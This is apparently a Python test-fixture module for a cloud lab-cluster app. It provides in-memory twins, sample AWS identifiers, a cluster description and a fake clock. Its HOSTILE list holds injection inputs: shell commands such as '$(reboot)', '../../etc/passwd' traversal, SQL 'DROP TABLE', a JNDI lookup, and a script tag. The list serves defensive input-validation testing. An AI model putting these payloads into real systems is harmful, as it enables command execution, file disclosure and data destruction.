"""Twins of the app's outside systems: in memory, and strict about their arguments."""

import json
from pathlib import Path
from typing import Any

EVENTS = Path(__file__).resolve().parents[2] / "events"
INSTANCE = "i-0123456789abcdef0"
MANAGER = "i-0fedcba9876543210"
OWNER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:one"
OTHER = "arn:aws:states:eu-west-1:123456789012:execution:labswarm-node-launch:two"

# Hostile texts in place of an id or a name.
HOSTILE = [
    "",
    "$(reboot)",
    "`reboot`",
    "; reboot",
    "| reboot",
    "&& reboot",
    "-rf",
    "*",
    "../../etc/passwd",
    "..%2f..%2fetc",
    "lab/../../x",
    '"}],"x":[{"',
    "'; DROP TABLE ledger; --",
    "{{ssm:/labswarm/clusters/lab}}",
    "${jndi:ldap://x.example/a}",
    "<script>alert(1)</script>",
    "%s%n%x",
    "a\nb",
    "a\x00b",
    "\u202ei-0123456789abcdef0",
    "i-0123456789abcdef0\n",
    "i-0123456789abcdef0 i-0123456789abcdef1",
    "i-0123456789ABCDEF0",
    "ｉ-０１２３４５６７８",
    "x" * 5000,
]

DESCRIPTION: dict[str, Any] = {
    "name": "lab",
    "asg": "labswarm-lab-workers",
    "manager": MANAGER,
    "chef": {
        "url": "https://10.98.0.1:4545",
        "organization": None,
        "ca_pem": None,
        "admin": "labswarm",
        "key_id": "alias/labswarm-chef-admin",
    },
    "seat": {"memory_bytes": 536870912, "nano_cpus": 250000000},
    "overhead": {"memory_bytes": 536870912, "nano_cpus": 0},
    "headroom": 2,
    "images": ["10.98.0.1:5000/labswarm/notebook@sha256:" + "0" * 64],
    "empty_deadline_s": 20,
    "timetable": None,
}


def event(name: str) -> dict[str, Any]:
    """A sample of events/."""
    loaded: dict[str, Any] = json.loads((EVENTS / f"{name}.json").read_text())
    return loaded


class TwinClock:
    """Time that passes only by sleeping."""

    def __init__(self, now: float = 1_800_000_000) -> None:
        self._now = now

    def now(self) -> float:
        return self._now

    def sleep(self, seconds: float) -> None:
        assert seconds > 0
        self._now += seconds
